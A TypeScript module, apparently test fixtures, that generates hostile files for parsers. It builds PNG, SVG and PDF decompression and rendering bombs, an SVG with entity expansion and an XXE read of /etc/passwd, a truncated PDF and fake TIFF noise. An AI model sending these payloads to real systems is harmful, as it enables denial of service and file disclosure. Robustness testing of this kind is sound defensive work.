/** Files that are made to take down whoever reads them. Small to send, large to open. */
import { randomBytes } from 'node:crypto';
import { constants, crc32, deflateSync } from 'node:zlib';
import { letterWithQrCode } from '../demo/qr-code-file.ts';

const uint32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

const chunk = (type: string, data: Uint8Array): Buffer => {
  const content = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  return Buffer.concat([uint32(data.length), content, uint32(crc32(content))]);
};

/** 30,000 × 30,000 grey pixels in some hundred kilobytes: 900 MB when opened. */
const pngBomb = (): Buffer => {
  const side = 30_000;
  const header = Buffer.concat([uint32(side), uint32(side), Buffer.from([1, 0, 0, 0, 0])]);
  const row = 1 + side / 8;
  const pixels = deflateSync(Buffer.alloc(row * side), { level: constants.Z_BEST_SPEED });
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
};

/** Each group shows the one before ten times: a billion squares. */
const svgBomb = (): Buffer => {
  const depth = 9;
  const groups = Array.from({ length: depth }, (_none, level) => {
    const uses = Array.from({ length: 10 }, (_also, at) => `<use href="#g${level}" x="${at}"/>`).join('');
    return `<g id="g${level + 1}">${uses}</g>`;
  });
  const first = '<g id="g0"><rect width="9" height="9" filter="url(#f)"/></g>';
  const filter = '<filter id="f"><feTurbulence numOctaves="99"/><feGaussianBlur stdDeviation="99"/></filter>';
  const defs = `<defs>${filter}${first}${groups.slice(0, -1).join('')}</defs>`;
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 900 900" width="900" height="900">${defs}${groups.at(-1)}</svg>`,
  );
};

/** Reads files of the machine, and grows with each entity. */
const svgOfEntities = (): Buffer =>
  Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${'lol'.repeat(99)}"><!ENTITY b "${'&a;'.repeat(99)}">` +
      `<!ENTITY f SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;&f;</text></svg>`,
  );

/** A page that draws a form that draws a form …, each a hundred times. */
const pdfBomb = (): Buffer => {
  const depth = 5;
  const FIRST_FORM = 5;
  const forms = Array.from({ length: depth }, (_none, level) => {
    const isLast = level === depth - 1;
    const drawing = isLast ? '0 0 600 800 re f' : '/F Do '.repeat(100);
    const resources = isLast ? '' : `/Resources << /XObject << /F ${FIRST_FORM + level + 1} 0 R >> >>`;
    return `<< /Type /XObject /Subtype /Form /BBox [0 0 9000 9000] ${resources} /Length ${drawing.length} >>\nstream\n${drawing}\nendstream`;
  });
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9000 9000] /Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >> >>',
    '<< /Length 5 >>\nstream\n/F Do\nendstream',
    ...forms,
  ];
  let file = '%PDF-1.7\n';
  for (const [index, object] of objects.entries()) file += `${index + 1} 0 obj\n${object}\nendobj\n`;
  return Buffer.from(`${file}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\n%%EOF\n`, 'latin1');
};

export const hostileFiles = (): readonly (readonly [name: string, file: Buffer])[] => [
  ['a PNG of 900 million pixels', pngBomb()],
  ['an SVG of a billion squares', svgBomb()],
  ['an SVG of entities', svgOfEntities()],
  ['a PDF of ten billion forms', pdfBomb()],
  ['a PDF that ends in the middle', letterWithQrCode('LPA:1$a.example$B').subarray(0, 700)],
  ['noise that says it is a TIFF', Buffer.concat([Buffer.from('II*\0', 'latin1'), randomBytes(200_000)])],
];
